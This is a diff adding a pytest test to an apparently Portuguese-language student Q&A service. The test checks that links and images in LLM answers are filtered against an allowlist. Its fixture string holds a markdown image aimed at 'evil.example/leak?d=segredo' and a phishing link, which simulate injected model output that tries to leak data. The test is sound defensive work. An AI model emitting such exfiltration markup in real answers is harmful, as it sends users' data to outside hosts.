@@ -207,3 +207,20 @@ def _redis_url() -> str:
     except redis.exceptions.ConnectionError:
         pytest.skip("no Redis server: .ci/run and `make test-redis` provide one")
     return url
+
+
+def test_injected_images_and_links_never_reach_the_student(make_client, fake_groq):
+    client, collection_id = make_client(link_allowlist="usp.br")
+    evil = (
+        "Veja ![x](https://evil.example/leak?d=segredo) e [o site](https://phish.example/login)"
+        " ou [a apostila](https://www.usp.br/bio) [1]."
+    )
+    fake_groq.script(Reply(text=evil), Reply(text=evil))
+    body = ask(client, collection_id).get_json()
+    assert "evil.example" not in body["answer"] and "phish" not in body["answer"]
+    assert "o site" in body["answer"] and "[a apostila](https://www.usp.br/bio)" in body["answer"]
+    parts = parse_sse(ask(client, collection_id, headers=SSE).get_data(as_text=True))
+    streamed = "".join(
+        p["delta"] for p in parts if isinstance(p, dict) and p["type"] == "text-delta"
+    )
+    assert streamed == body["answer"]
